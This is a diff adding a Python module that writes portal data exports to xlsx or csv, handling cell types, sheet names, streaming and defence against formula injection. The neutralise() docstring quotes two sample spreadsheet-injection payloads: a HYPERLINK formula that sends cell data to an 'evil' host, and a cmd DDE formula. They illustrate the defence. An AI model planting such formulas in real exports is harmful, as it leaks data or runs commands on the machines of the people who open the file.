@@ -1,0 +1,388 @@
+"""Writing a table out as .xlsx or .csv: the one writer every export of the portal uses.
+
+The grid's "export the current view", the lists, whole-archive exports and mailing lists all
+hand :func:`write_table` a list of :class:`ExportColumn` and an iterable of rows of plain
+values; what a cell becomes in the file is decided here, once, from the value and the column's
+:class:`~portal.fields.spec.FieldType`:
+
+* numbers of a number type (INT, DECIMAL, MONEY) are real numbers, with the type's format;
+* dates and datetimes are real Excel dates (``yyyy-mm-dd`` / ``yyyy-mm-dd hh:mm``);
+* identifiers (mobile, phone, postcode, ID and card numbers) are always text, so Excel never
+  turns 13812345678 into 1.38E+10 or rounds a 19-digit card number;
+* a Python ``bool`` is the word for yes or no (是 / 否 unless told otherwise);
+* any text that Excel would take for a formula is neutralised (:func:`neutralise`);
+* ``None`` is an empty cell.
+
+No Flask here: labels, masking and row scope are the caller's business; this module only writes.
+Rows are consumed one at a time and never held: with xlsxwriter's ``constant_memory`` the
+xlsx side keeps one row in memory, the csv side a few tens of kilobytes, so a million-row
+export costs no more memory than a ten-row one.
+"""
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import math
+import tempfile
+import unicodedata
+from dataclasses import dataclass
+from decimal import Decimal
+from typing import Any, Iterable, Sequence
+
+import xlsxwriter
+
+from portal.fields.spec import IDENTIFIER_TYPES, FieldType
+
+FORMATS = ("xlsx", "csv")
+
+# Excel's own limits (Excel 2007 and later).
+MAX_ROWS = 1_048_576        # rows of one worksheet, the header row included
+MAX_COLUMNS = 16_384
+MAX_CELL_CHARS = 32_767     # characters one cell holds; Excel cuts anything longer on open
+MAX_SHEET_NAME = 31         # UTF-16 code units, as Excel counts them
+MAX_EXACT_INTEGER = 10**15  # Excel keeps 15 significant digits; longer integers go out as text
+
+_SHEET_NAME_FORBIDDEN = str.maketrans({c: "_" for c in "[]:*?/\\"})
+_FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+MONEY_FORMAT = "#,##0.00"
+INT_FORMAT = "0"
+DATE_FORMAT = "yyyy-mm-dd"
+DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
+TEXT_FORMAT = "@"
+
+# Column widths in characters when the column does not say; the header may widen them.
+DEFAULT_WIDTHS: dict[FieldType, int] = {
+    FieldType.TEXT: 20, FieldType.LONGTEXT: 40,
+    FieldType.INT: 10, FieldType.DECIMAL: 14, FieldType.MONEY: 16,
+    FieldType.DATE: 12, FieldType.DATETIME: 17, FieldType.BOOL: 6,
+    FieldType.CHOICE: 12, FieldType.RELATION: 20, FieldType.RELATION_MANY: 24,
+    FieldType.MOBILE: 14, FieldType.PHONE: 18, FieldType.EMAIL: 28, FieldType.URL: 32,
+    FieldType.POSTCODE: 9, FieldType.ID_NUMBER: 21, FieldType.CARD_NUMBER: 23,
+}
+_FILTER_BUTTON = 3          # characters the autofilter's drop-down takes from the header cell
+_MAX_HEADER_WIDTH = 60      # a very long label does not make a column wider than this
+_MAX_WIDTH = 255            # Excel's limit
+
+_BLANK, _TEXT, _NUMBER, _DATE, _DATETIME = range(5)
+
+
+@dataclass(frozen=True)
+class ExportColumn:
+    """One column of an export: its header text and the type that decides how cells are written."""
+
+    label: str
+    type: FieldType
+    width: int | None = None   # characters; None = from the type and label
+
+    def __post_init__(self):
+        object.__setattr__(self, "type", FieldType(self.type))
+
+
+def neutralise(text: str) -> str:
+    """``text`` made safe from formula (CSV) injection.
+
+    Excel, LibreOffice and Google Sheets run a cell that begins with ``=``, ``+``, ``-`` or
+    ``@`` as a formula — in a CSV as soon as it is opened, in an xlsx as soon as a user edits
+    the cell — so a customer named ``=HYPERLINK("http://evil/?"&A1)`` or
+    ``=cmd|' /C calc'!A0`` would leak data or run a command on the clerk's machine. A leading
+    tab or carriage return can hide such a formula behind white space. OWASP's advice for
+    "CSV injection" is to prefix those cells with a single quote, which the spreadsheet shows
+    as text; we do that for every text cell of both formats (numbers and dates are written as
+    such and cannot be formulas). A phone written as "+86 138…" or a note starting with "-"
+    gets the quote too: a visible apostrophe is the price of never running a formula.
+    """
+    if text.startswith(_FORMULA_TRIGGERS):
+        return "'" + text
+    return text
+
+
+def sanitise_sheet_name(name: str) -> str:
+    """A worksheet name Excel accepts: none of ``[]:*?/\\``, no apostrophe at either end,
+    at most 31 characters, not the reserved "History"; Chinese and other text is kept."""
+    name = " ".join(str(name).translate(_SHEET_NAME_FORBIDDEN).split()).strip("'")
+    name = _fit(name, MAX_SHEET_NAME).strip().strip("'")
+    if not name:
+        return "Sheet1"
+    if name.lower() == "history":
+        return name + "_"
+    return name
+
+
+def display_width(text: str) -> int:
+    """Columns ``text`` takes on screen: CJK and other wide characters count double."""
+    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)
+
+
+def column_width(column: ExportColumn) -> int:
+    """The width of ``column`` in characters: its own, or its type's, widened to fit the label."""
+    if column.width is not None:
+        return max(1, min(column.width, _MAX_WIDTH))
+    header = min(display_width(column.label) + _FILTER_BUTTON, _MAX_HEADER_WIDTH)
+    return max(DEFAULT_WIDTHS.get(column.type, 16), header)
+
+
+def write_table(stream, *, fmt: str, sheet_name: str, columns: list[ExportColumn], rows: Iterable[Sequence],
+                yes_no: tuple[str, str] = ("是", "否")) -> int:
+    """Writes rows (plain values: str, int, float, Decimal, date, datetime, bool, None) to the binary
+    stream as .xlsx (fmt="xlsx") or UTF-8-with-BOM .csv (fmt="csv"); returns the number of data rows.
+
+    ``rows`` may be any iterable — a generator over the database — and is read once, row by
+    row; every row must have one value per column. ``yes_no`` are the words a ``bool`` is
+    written as. The stream only needs ``write(bytes)``: it need not seek, and it is not closed.
+
+    xlsx: one sheet named ``sheet_name`` (made valid, see :func:`sanitise_sheet_name`) with a
+    bold, filled, bordered header row that stays frozen, an autofilter over the written range
+    and column widths from :func:`column_width`. A sheet holds at most ``MAX_ROWS`` rows
+    (1,048,576 with the header): when more rows come, they continue on a new sheet named
+    "<name> (2)", "<name> (3)" … each with the header again. Text longer than Excel's 32,767
+    characters per cell is cut there.
+
+    csv: the header is the labels; ``\\r\\n`` line ends, minimal quoting, dates in ISO form
+    (``2025-03-01``, ``2025-03-01 14:30:00``), Decimals as plain digits, text neither typed nor
+    cut. CSV carries no types: a person opening it in Excel gets long digit strings turned into
+    numbers by Excel itself, which is why the portal offers xlsx to people and csv to programs.
+    """
+    if fmt not in FORMATS:
+        raise ValueError(f"unknown export format {fmt!r}; expected one of {', '.join(FORMATS)}")
+    columns = list(columns)
+    if not columns:
+        raise ValueError("an export needs at least one column")
+    if len(columns) > MAX_COLUMNS:
+        raise ValueError(f"{len(columns)} columns exceed Excel's {MAX_COLUMNS}")
+    yes, no = yes_no
+    if fmt == "xlsx":
+        return _write_xlsx(stream, sheet_name, columns, rows, (yes, no))
+    return _write_csv(stream, columns, rows, (yes, no))
+
+
+# --- what a value becomes ------------------------------------------------------------------
+
+def _plain(value: Any) -> str:
+    """A number or other value as the digits a person would write, never in exponent form."""
+    if isinstance(value, Decimal):
+        return format(value, "f")
+    if isinstance(value, float) and value.is_integer():
+        return str(int(value))
+    return str(value)
+
+
+def _classify(value: Any, type_: FieldType, yes_no: tuple[str, str]) -> tuple[int, Any]:
+    """The kind of cell ``value`` makes in a column of ``type_``, and what goes in it.
+
+    Text comes back already neutralised; both writers share this so xlsx and csv agree.
+    """
+    if value is None:
+        return _BLANK, None
+    if isinstance(value, bool) or (type_ is FieldType.BOOL and isinstance(value, int) and value in (0, 1)):
+        return _TEXT, neutralise(yes_no[0] if value else yes_no[1])
+    if type_ in IDENTIFIER_TYPES:
+        return _TEXT, neutralise(_plain(value))
+    if isinstance(value, (int, float, Decimal)):
+        if isinstance(value, Decimal):
+            finite = value.is_finite()
+        elif isinstance(value, float):
+            finite = math.isfinite(value)
+        else:
+            finite = abs(value) < MAX_EXACT_INTEGER
+        if not finite:       # NaN, infinity, or an integer Excel would round: keep it exact as text
+            return _TEXT, neutralise(_plain(value))
+        return _NUMBER, value
+    if isinstance(value, dt.datetime):
+        return (_DATE, value.date()) if type_ is FieldType.DATE else (_DATETIME, value)
+    if isinstance(value, dt.date):
+        if type_ is FieldType.DATETIME:
+            return _DATETIME, dt.datetime.combine(value, dt.time())
+        return _DATE, value
+    return _TEXT, neutralise(str(value))
+
+
+def _iso(value: dt.date) -> str:
+    """A date or datetime in ISO 8601 form, a space between date and time as Excel reads it."""
+    return value.isoformat(sep=" ") if isinstance(value, dt.datetime) else value.isoformat()
+
+
+def _fit(text: str, units: int) -> str:
+    """``text`` cut to at most ``units`` UTF-16 code units (how Excel measures names)."""
+    while len(text.encode("utf-16-le")) // 2 > units:
+        text = text[:-1]
+    return text
+
+
+def _numbered(base: str, number: int) -> str:
+    """The name of the ``number``-th sheet of an export: "<base> (2)", kept within 31 characters."""
+    if number == 1:
+        return base
+    suffix = f" ({number})"
+    return _fit(base, MAX_SHEET_NAME - len(suffix)).rstrip() + suffix
+
+
+# --- xlsx ----------------------------------------------------------------------------------
+
+def _write_xlsx(stream, sheet_name: str, columns: list[ExportColumn], rows: Iterable[Sequence],
+                yes_no: tuple[str, str]) -> int:
+    # With constant_memory and in_memory off, xlsxwriter writes each sheet's rows to a temp
+    # file as they come and, on close(), zips those files into ``stream`` (zipfile copes with
+    # a stream that cannot seek by writing data descriptors). The temp files go to a private
+    # folder under the system's temp dir (TMPDIR), so that an export cut short — the database
+    # failing mid-way, the client going away — leaves nothing behind.
+    with tempfile.TemporaryDirectory(prefix="portal-export-", ignore_cleanup_errors=True) as tmpdir:
+        workbook = xlsxwriter.Workbook(_CountingWriter(stream), {
+            "constant_memory": True, "strings_to_formulas": False, "strings_to_urls": False,
+            "strings_to_numbers": False, "in_memory": False, "tmpdir": tmpdir,
+        })
+        try:
+            written = _fill_workbook(workbook, sanitise_sheet_name(sheet_name), columns, rows, yes_no)
+        except BaseException:
+            for sheet in workbook.worksheets():   # close the row files; nothing is written to stream
+                sheet._opt_close()
+            raise
+        workbook.close()
+    return written
+
+
+class _CountingWriter:
+    """The caller's stream as zipfile wants it: ``write`` answering the number of bytes taken.
+
+    zipfile counts offsets from ``write``'s answer when the stream cannot tell its position,
+    and a write callable (a WSGI ``write``, a queue feeding a streamed response) may answer
+    None. ``flush`` is passed on if the stream has it; ``tell`` and ``seek`` are the stream's own
+    (without them zipfile writes a streamed zip, which Excel reads the same).
+    """
+
+    def __init__(self, stream):
+        self._stream = stream
+
+    def write(self, data) -> int:
+        self._stream.write(data)
+        return len(data)
+
+    def flush(self) -> None:
+        flush = getattr(self._stream, "flush", None)
+        if flush is not None:
+            flush()
+
+    def __getattr__(self, name):
+        return getattr(self._stream, name)
+
+
+def _fill_workbook(workbook, base_name: str, columns: list[ExportColumn], rows: Iterable[Sequence],
+                   yes_no: tuple[str, str]) -> int:
+    header_format = workbook.add_format({
+        "bold": True, "bg_color": "#DDEBF7", "border": 1, "valign": "vcenter",
+    })
+    text_format = workbook.add_format({"num_format": TEXT_FORMAT})
+    date_format = workbook.add_format({"num_format": DATE_FORMAT})
+    datetime_format = workbook.add_format({"num_format": DATETIME_FORMAT})
+    number_formats = {
+        FieldType.INT: workbook.add_format({"num_format": INT_FORMAT}),
+        FieldType.MONEY: workbook.add_format({"num_format": MONEY_FORMAT}),
+        FieldType.DECIMAL: None,   # General: as many decimals as the value has
+    }
+    types = [column.type for column in columns]
+    text_formats = [text_format if t in IDENTIFIER_TYPES else None for t in types]
+    value_formats = [number_formats.get(t) for t in types]
+    column_formats = [
+        text_format if t in IDENTIFIER_TYPES
+        else date_format if t is FieldType.DATE
+        else datetime_format if t is FieldType.DATETIME
+        else number_formats.get(t)
+        for t in types
+    ]
+    widths = [column_width(column) for column in columns]
+    labels = [neutralise(column.label) for column in columns]
+    last_column = len(columns) - 1
+    rows_per_sheet = MAX_ROWS - 1
+
+    def open_sheet(number: int):
+        sheet = workbook.add_worksheet(_numbered(base_name, number))
+        for index, (width, fmt) in enumerate(zip(widths, column_formats)):
+            sheet.set_column(index, index, width, fmt)
+        for index, label in enumerate(labels):
+            sheet.write_string(0, index, label[:MAX_CELL_CHARS], header_format)
+        sheet.freeze_panes(1, 0)
+        return sheet
+
+    sheets = 1
+    sheet = open_sheet(sheets)
+    on_sheet = 0
+    written = 0
+    for row in rows:
+        _check_length(row, len(columns), written + 1)
+        if on_sheet == rows_per_sheet:
+            sheet.autofilter(0, 0, on_sheet, last_column)
+            sheets += 1
+            sheet = open_sheet(sheets)
+            on_sheet = 0
+        on_sheet += 1
+        written += 1
+        for index, value in enumerate(row):
+            kind, out = _classify(value, types[index], yes_no)
+            if kind == _TEXT:
+                sheet.write_string(on_sheet, index, out[:MAX_CELL_CHARS], text_formats[index])
+            elif kind == _NUMBER:
+                sheet.write_number(on_sheet, index, float(out), value_formats[index])
+            elif kind != _BLANK:
+                if getattr(out, "tzinfo", None) is not None:   # Excel has no time zones: keep the wall time shown
+                    out = out.replace(tzinfo=None)
+                if out.year < 1900:         # before Excel's first day: keep the date as text
+                    sheet.write_string(on_sheet, index, _iso(out), text_formats[index])
+                else:
+                    sheet.write_datetime(on_sheet, index, out, date_format if kind == _DATE else datetime_format)
+    sheet.autofilter(0, 0, on_sheet, last_column)
+    return written
+
+
+def _check_length(row: Sequence, expected: int, number: int) -> None:
+    if len(row) != expected:
+        raise ValueError(f"export row {number} has {len(row)} values for {expected} columns")
+
+
+# --- csv -----------------------------------------------------------------------------------
+
+class _Utf8Sink:
+    """What ``csv.writer`` writes to: encodes to UTF-8 and passes the bytes on in chunks of
+    about ``chunk`` characters, so memory stays flat and the stream sees few, large writes."""
+
+    def __init__(self, stream, chunk: int = 64 * 1024):
+        self.stream = stream
+        self.chunk = chunk
+        self.parts: list[str] = []
+        self.size = 0
+
+    def write(self, text: str) -> None:
+        self.parts.append(text)
+        self.size += len(text)
+        if self.size >= self.chunk:
+            self.flush()
+
+    def flush(self) -> None:
+        if self.parts:
+            self.stream.write("".join(self.parts).encode("utf-8"))
+            self.parts.clear()
+            self.size = 0
+
+
+def _csv_text(kind: int, value: Any) -> str:
+    if kind == _TEXT:
+        return value
+    if kind == _NUMBER:
+        return _plain(value) if isinstance(value, Decimal) else str(value)
+    if kind == _BLANK:
+        return ""
+    return _iso(value)
+
+
+def _write_csv(stream, columns: list[ExportColumn], rows: Iterable[Sequence], yes_no: tuple[str, str]) -> int:
+    sink = _Utf8Sink(stream)
+    sink.write("\ufeff")   # the BOM: without it Excel reads UTF-8 as the local code page (GBK)
+    writer = csv.writer(sink, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
+    writer.writerow([neutralise(column.label) for column in columns])
+    types = [column.type for column in columns]
+    written = 0
+    for row in rows:
+        _check_length(row, len(types), written + 1)
+        writer.writerow([_csv_text(*_classify(value, types[index], yes_no)) for index, value in enumerate(row)])
+        written += 1
+    sink.flush()
+    return written
